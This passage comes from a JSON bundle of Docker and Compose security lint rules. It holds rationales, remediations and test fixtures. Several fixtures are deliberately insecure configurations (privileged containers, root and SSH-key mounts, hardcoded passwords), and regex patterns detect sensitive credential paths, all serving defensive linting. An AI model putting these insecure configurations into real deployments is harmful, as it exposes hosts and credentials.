#5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9},{"line":8,"column":9},{"line":9,"column":9}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: *common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9},{"line":12,"column":9}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7},{"line":13,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11},{"line":13,"column":9},{"line":13,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 true\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage 